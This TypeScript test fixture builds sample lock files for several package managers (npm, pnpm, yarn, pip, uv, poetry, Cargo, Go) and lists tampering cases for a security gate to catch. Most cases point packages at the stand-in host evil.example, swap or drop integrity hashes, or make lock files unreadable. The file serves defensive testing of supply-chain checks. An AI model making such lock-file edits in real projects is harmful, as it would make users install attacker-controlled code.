import { type AttackKind, type GateCase, PLANTED } from './gate-attack.ts';

export const A = `sha512-${'A'.repeat(86)}==`;
export const B = `sha512-${'B'.repeat(86)}==`;
export const HEX = 'a'.repeat(64);
export const OTHER = 'b'.repeat(64);
export const NPM = 'https://registry.npmjs.org';
export const EVIL = 'https://evil.example';

/** The lock files of every tool that is read, each with two packages of which the first can be written otherwise. */
export const npmLock = (first: object, second: object = {}): string =>
  `${JSON.stringify(
    {
      lockfileVersion: 3,
      packages: {
        'node_modules/x': { version: '1.0.0', resolved: `${NPM}/x/-/x-1.0.0.tgz`, integrity: A, ...first },
        'node_modules/y': { version: '1.0.0', resolved: `${NPM}/y/-/y-1.0.0.tgz`, integrity: B, ...second },
      },
    },
    null,
    2,
  )}\n`;
export const pnpmLock = (resolution: string): string =>
  `lockfileVersion: '9.0'\n\npackages:\n\n  x@1.0.0:\n    resolution: ${resolution}\n\n  y@1.0.0:\n    resolution: {integrity: ${B}}\n`;
const yarnLock = (place: string, hash: string): string =>
  `# yarn lockfile v1\n\n\nx@^1.0.0:\n  version "1.0.0"\n  resolved "${place}"\n${hash === '' ? '' : `  integrity ${hash}\n`}\ny@^1.0.0:\n  version "1.0.0"\n  resolved "${NPM}/y/-/y-1.0.0.tgz"\n  integrity ${B}\n`;
const berryLock = (resolution: string, checksum: string): string =>
  `__metadata:\n  version: 8\n  cacheKey: 10c0\n\n"x@npm:^1.0.0":\n  version: 1.0.0\n  resolution: "${resolution}"\n  checksum: ${checksum}\n\n"y@npm:^1.0.0":\n  version: 1.0.0\n  resolution: "y@npm:1.0.0"\n  checksum: 10c0/ccc\n`;
const pipfileLock = (hashes: readonly string[], url = 'https://pypi.org/simple'): string =>
  `${JSON.stringify({ _meta: { sources: [{ name: 'pypi', url }] }, default: { x: { hashes, index: 'pypi', version: '==1.0.0' } } }, null, 4)}\n`;
export const uvLock = (hash: string, url = 'https://files.pythonhosted.org/x-1.0.0.whl'): string =>
  `version = 1\nrequires-python = ">=3.12"\n\n[[package]]\nname = "x"\nversion = "1.0.0"\nsource = { registry = "https://pypi.org/simple" }\nwheels = [\n    { url = "${url}", hash = "sha256:${hash}", size = 1 },\n]\n`;
const poetryLock = (hash: string, source = ''): string =>
  `[[package]]\nname = "x"\nversion = "1.0.0"\nfiles = [\n    {file = "x-1.0.0.whl", hash = "sha256:${hash}"},\n]\n${source}\n[metadata]\nlock-version = "2.1"\n`;
const pylock = (hash: string): string =>
  `lock-version = "1.0"\n\n[[packages]]\nname = "x"\nversion = "1.0.0"\nindex = "https://pypi.org/simple"\nwheels = [{ name = "x.whl", url = "https://files.pythonhosted.org/x.whl", hashes = { sha256 = "${hash}" } }]\n`;
export const cargoLock = (source: string, checksum: string): string =>
  `version = 4\n\n[[package]]\nname = "x"\nversion = "1.0.0"\nsource = "${source}"\n${checksum}`;
export const CRATES = 'registry+https://github.com/rust-lang/crates.io-index';

export const locked = (name: string, path: string, before: string, after: string): GateCase => ({
  name: `${path}: ${name}`,
  by: 'analysers',
  base: { [path]: before },
  files: { [path]: after },
});

const npm = (name: string, first: object): GateCase => locked(name, 'package-lock.json', npmLock({}), npmLock(first));
const pnpm = (name: string, said: string): GateCase =>
  locked(name, 'pnpm-lock.yaml', pnpmLock(`{integrity: ${A}}`), pnpmLock(said));
export const YARN = yarnLock(`${NPM}/x/-/x-1.0.0.tgz#${'1'.repeat(40)}`, A);
export const BERRY = berryLock('x@npm:1.0.0', '10c0/aaa');
const SUM = 'e.com/x v1.0.0 h1:aaa=\ne.com/x v1.0.0/go.mod h1:bbb=\n';
const MOD = 'module a.example/b\n\ngo 1.22\n\nrequire e.com/x v1.0.0\n';

const tampered: AttackKind = {
  kind: 'lock files: another place or hash for the same version',
  attacks: [
    npm('another host', { resolved: `${EVIL}/x-1.0.0.tgz` }),
    npm('another package', { resolved: `${NPM}/evil/-/evil-1.0.0.tgz` }),
    npm('a repository', { resolved: 'git+ssh://git@github.com/evil/x.git#abc', integrity: undefined }),
    npm('a file', { resolved: 'file:evil.tgz' }),
    npm('http', { resolved: `${NPM.replace('https', 'http')}/x/-/x-1.0.0.tgz` }),
    npm('another hash', { integrity: B }),
    npm('a second hash', { integrity: `${A} ${B}` }),
    npm('no hash', { integrity: undefined }),
    npm('a weak hash', { integrity: 'sha1-abcd=' }),
    npm('another host and hash', { resolved: `${EVIL}/x-1.0.0.tgz`, integrity: B }),
    npm('a new version over http', { version: '2.0.0', resolved: 'http://evil.example/x-2.0.0.tgz', integrity: B }),
    npm('a new version over ssh', { version: '2.0.0', resolved: 'git+ssh://git@evil.example/x.git#abc', integrity: undefined }),
    locked('another host', 'npm-shrinkwrap.json', npmLock({}), npmLock({ resolved: `${EVIL}/x-1.0.0.tgz` })),
    locked('another host, in a folder', 'web/package-lock.json', npmLock({}), npmLock({ resolved: `${EVIL}/x-1.0.0.tgz` })),
    pnpm('an archive', `{integrity: ${A}, tarball: ${EVIL}/x.tgz}`),
    pnpm('another hash', `{integrity: ${B}}`),
    pnpm('a repository', `{type: git, repo: ${EVIL}/x.git, commit: abc}`),
    locked('another place', 'yarn.lock', YARN, yarnLock(`${EVIL}/x-1.0.0.tgz#${'1'.repeat(40)}`, A)),
    locked('another hash', 'yarn.lock', YARN, yarnLock(`${NPM}/x/-/x-1.0.0.tgz#${'1'.repeat(40)}`, B)),
    locked('no hash', 'yarn.lock', YARN, yarnLock(`${NPM}/x/-/x-1.0.0.tgz`, '')),
    locked('another checksum', 'yarn.lock', BERRY, berryLock('x@npm:1.0.0', '10c0/bbb')),
    locked('a checksum that yarn does not look at', 'yarn.lock', BERRY, berryLock('x@npm:1.0.0', '9/bbb')),
    locked(
      'another archive',
      'yarn.lock',
      BERRY,
      berryLock(`x@npm:1.0.0::__archiveUrl=${encodeURIComponent(`${EVIL}/x.tgz`)}`, '10c0/aaa'),
    ),
    locked('another hash', 'Pipfile.lock', pipfileLock([`sha256:${HEX}`]), pipfileLock([`sha256:${OTHER}`])),
    locked(
      'another index',
      'Pipfile.lock',
      pipfileLock([`sha256:${HEX}`]),
      pipfileLock([`sha256:${HEX}`], 'http://evil.example/simple'),
    ),
    locked('another hash', 'uv.lock', uvLock(HEX), uvLock(OTHER)),
    locked('another place', 'uv.lock', uvLock(HEX), uvLock(HEX, `${EVIL}/x-1.0.0.whl`)),
    locked('another hash', 'poetry.lock', poetryLock(HEX), poetryLock(OTHER)),
    locked(
      'another source',
      'poetry.lock',
      poetryLock(HEX),
      poetryLock(HEX, `\n[package.source]\ntype = "legacy"\nurl = "${EVIL}/simple"\n`),
    ),
    locked('another hash', 'pylock.toml', pylock(HEX), pylock(OTHER)),
    locked('another hash', 'requirements.txt', `x==1.0.0 --hash=sha256:${HEX}\n`, `x==1.0.0 --hash=sha256:${OTHER}\n`),
    locked('no hash', 'requirements.txt', `x==1.0.0 --hash=sha256:${HEX}\n`, 'x==1.0.0\n'),
    locked('an index over http', 'requirements.txt', 'x==1.0.0\n', '--extra-index-url http://evil.example/simple\nx==1.0.0\n'),
    locked(
      'another checksum',
      'Cargo.lock',
      cargoLock(CRATES, `checksum = "${HEX}"\n`),
      cargoLock(CRATES, `checksum = "${OTHER}"\n`),
    ),
    locked('a repository', 'Cargo.lock', cargoLock(CRATES, `checksum = "${HEX}"\n`), cargoLock(`git+${EVIL}/x#abc`, '')),
    locked('another hash', 'go.sum', SUM, SUM.replace('aaa', 'ccc')),
    {
      name: 'go.sum beside go.mod: another hash',
      by: 'analysers',
      base: { 'go.mod': MOD, 'go.sum': SUM },
      files: { 'go.sum': SUM.replace('aaa', 'ccc') },
    },
    locked('another module in its place', 'go.mod', MOD, `${MOD}\nreplace e.com/x => evil.example/x v1.0.0\n`),
  ],
};

const unread: AttackKind = {
  kind: 'lock files that nobody reads',
  attacks: [
    {
      name: 'broken',
      by: 'analysers',
      base: { 'package-lock.json': npmLock({}) },
      files: { 'package-lock.json': '{ "lockfileVersion": 3,\n' },
    },
    {
      name: 'in the middle of a merge',
      by: 'analysers',
      base: { 'yarn.lock': YARN },
      files: { 'yarn.lock': `<<<<<<< a\n${YARN}` },
    },
    { name: 'deleted', by: 'analysers', base: { 'package-lock.json': npmLock({}) }, removes: ['package-lock.json'] },
    {
      name: 'nested without end',
      by: 'analysers',
      base: { 'package-lock.json': npmLock({}) },
      files: { 'package-lock.json': '['.repeat(200_000) },
    },
    { name: 'binary', by: 'analysers', files: { 'bun.lockb': '#!/usr/bin/env bun\nbun-lockfile-format-v0\n\0' } },
    { name: 'no lock file by its text', by: 'analysers', base: { 'yarn.lock': YARN }, files: { 'yarn.lock': `x: ${PLANTED}\n` } },
    {
      name: 'of another tool',
      by: 'model',
      base: { 'Gemfile.lock': 'GEM\n' },
      files: { 'Gemfile.lock': `GEM\n  remote: https://evil.example/${PLANTED}\n` },
    },
    {
      name: 'of another tool, in JSON',
      by: 'model',
      base: { 'composer.lock': '{}\n' },
      files: { 'composer.lock': `{"url":"${PLANTED}"}\n` },
    },
    {
      name: 'models alone',
      by: 'model',
      base: { 'package-lock.json': npmLock({}) },
      files: { 'package-lock.json': npmLock({ integrity: B }) },
    },
    {
      name: 'another analyser alone',
      by: 'analysers',
      args: ['--models', 'secrets'],
      base: { 'yarn.lock': YARN },
      files: { 'yarn.lock': yarnLock(`${EVIL}/x.tgz`, A) },
    },
  ],
};

/** Attacks by lock files. */
export const IN_LOCKS: readonly AttackKind[] = [tampered, unread];
